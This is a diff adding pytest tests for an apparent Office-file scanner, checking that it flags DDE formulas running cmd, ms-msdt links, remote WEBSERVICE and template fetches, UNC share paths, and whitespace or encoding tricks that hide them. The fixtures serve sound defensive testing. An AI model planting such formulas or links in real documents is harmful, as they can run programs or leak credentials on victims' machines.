@@ -235,3 +235,78 @@ def test_ordinary_documents_are_quiet() -> None:
 def test_a_bomb_is_passed_over_in_time() -> None:
     result = looked(office("docx", {"word/a.xml": b"<a>" + b"<w:instrText>A</w:instrText>" * 400_000}))
     assert result.unread
+
+
+@pytest.mark.parametrize(
+    ("formula", "severity", "code"),
+    [
+        ("cmd|' /c calc'!A0", "error", "dde-program"), ("1+cmd|'/c a'!A0", "error", "dde-program"),
+        ("MTX|DATA!A1", "warning", "dde-data"), ("'C:\\a\\cmd.exe'|'x'!A", "error", "dde-program"),
+        ('_xlfn.WEBSERVICE("http://a.example/"&amp;B1)', "warning", "remote-workbook"),
+        ('WEBSERVICE("ht"&amp;"tp://a.example")', "warning", "remote-workbook"),
+        ('WEBSERVICE("\\\\host\\a")', "error", "unc-link"), ('_xlfn.IMAGE("https://a.example/a.png")', "warning", "remote-image"),
+        ('HYPERLINK("ms-msdt:/id","x")', "error", "program-link"), ('HYPERLINK("\\\\host\\a","x")', "warning", "unc-link"),
+        ("'\\\\host\\share\\[a.xlsx]S'!A1", "warning", "unc-link"), ('RTD("a.b",,"c")', "warning", "dde-data"),
+        ('of:=DDE("cmd";"/c calc";"A0")', "error", "dde-program"), ("<![CDATA[cmd|'/c a'!A0]]>", "error", "dde-program"),
+        ("cmd&#124;'/c a'!A0", "error", "dde-program"), ("cmd" + " " * 30000 + "|'/c a'!A0", "error", "dde-program"),
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize("element", ["f", "x14:formula", "definedName", "xm:f", "formula1"])
+def test_formulas(element: str, formula: str, severity: str, code: str) -> None:
+    part = f'<a><c><{element} name="a">{formula}</{element}></c></a>'.encode()
+    found = looked(office("xlsx", {"xl/worksheets/sheet9.xml": part}))
+    assert [(each.severity, each.code, each.where) for each in found.found] == [
+        (severity, code, "xl/worksheets/sheet9.xml")
+    ]
+    assert not found.unread
+
+
+@pytest.mark.parametrize("formula", ["SUM(A1:A2)", 'IF(A1="a|b",1,2)', 'HYPERLINK("#A1","x")', '"|"&amp;A1', "[1]S!A1"])
+def test_ordinary_formulas_are_quiet(formula: str) -> None:
+    assert looked(office("xlsx", {"xl/worksheets/sheet9.xml": f"<a><f>{formula}</f></a>".encode()})) == ((), (), ())
+
+
+def test_a_formula_at_any_place_of_a_long_sheet() -> None:
+    for before in range(65_500, 65_560, 7):
+        part = b"<a>" + b" " * before + b"<c><f>cmd|'/c a'!A0</f></c>" + b"<c><f>A1</f></c>" * 90_000 + b"</a>"
+        assert said(office("xlsx", {"xl/worksheets/sheet9.xml": part})) == {("error", "dde-program")}
+
+
+@pytest.mark.parametrize(
+    ("connection", "expected"),
+    [
+        ('type="6"><textPr sourceFile="\\\\host\\a.txt"/>', ("error", "unc-link")),
+        ('type="5" odcFile="http://a.example/a.odc"><dbPr/>', ("warning", "remote-workbook")),
+        ('type="5"><dbPr connection="Provider=X;Data Source=\\\\host\\a.mdb"/>', ("error", "unc-link")),
+        ('type="1"><dbPr connection="DSN=a;DBQ=http://a.example/a"/>', ("warning", "remote-workbook")),
+    ],
+)  # fmt: skip
+def test_connections_to_data(connection: str, expected: tuple[str, str]) -> None:
+    part = f'<connections><connection id="1" refreshOnLoad="1" {connection}</connection></connections>'.encode()
+    assert said(office("xlsx", {"xl/connections.xml": part})) == {expected}
+
+
+def test_addresses_of_a_letter_shapes_and_the_package_itself() -> None:
+    letter = b'<w:settings><w:mailMerge><w:connectString w:val="Provider=X;Data Source=\\\\host\\a"/></w:mailMerge></w:settings>'
+    assert said(office("docx", {"word/settings9.xml": letter})) == {("error", "unc-link")}
+    shape = b'<w:p xmlns:v="urn:schemas-microsoft-com:vml"><v:rect href="ms-msdt:/id"/></w:p>'
+    assert said(office("docx", {"word/header9.xml": shape})) == {("error", "program-link")}
+    top = rels(("officeDocument", "word/document.xml"), ("attachedTemplate", "\\\\host\\a.dotm"))
+    assert ("error", "remote-template") in said(office("docx", {"_rels/.rels": top}))
+
+
+@pytest.mark.parametrize("blanks", [5, 30_000, 300_000])
+def test_blanks_hide_nothing(blanks: int) -> None:
+    pad = " " * blanks
+    assert said(field(pad + "DDEAUTO cmd")) == {("error", "dde-program")}
+    assert said(field(*[" "] * (blanks // 100), "DDEAUTO cmd")) == {("error", "dde-program")}
+    attribute = f'<w:fldSimple w:x="{pad}" w:instr="{pad}DDE cmd"/>'.encode()
+    assert said(office("docx", {"word/header9.xml": attribute})) == {("error", "dde-program")}
+    target = rels(("attachedTemplate", "&#32;" * (blanks // 5) + pad + "http://a.example/b"))
+    assert said(office("docx", {DOCUMENT: target})) == {("error", "remote-template")}
+    assert looked(field("INCLUDEPICTURE " + '"" ' * blanks + '"http://a.example"')).unread or blanks < 60
+
+
+def test_more_attributes_than_are_looked_at_are_told() -> None:
+    part = b"<w:fldSimple " + b'a="b" ' * 30_000 + b'w:instr="DDE cmd"/>'
+    assert looked(office("docx", {"word/header9.xml": part})).unread
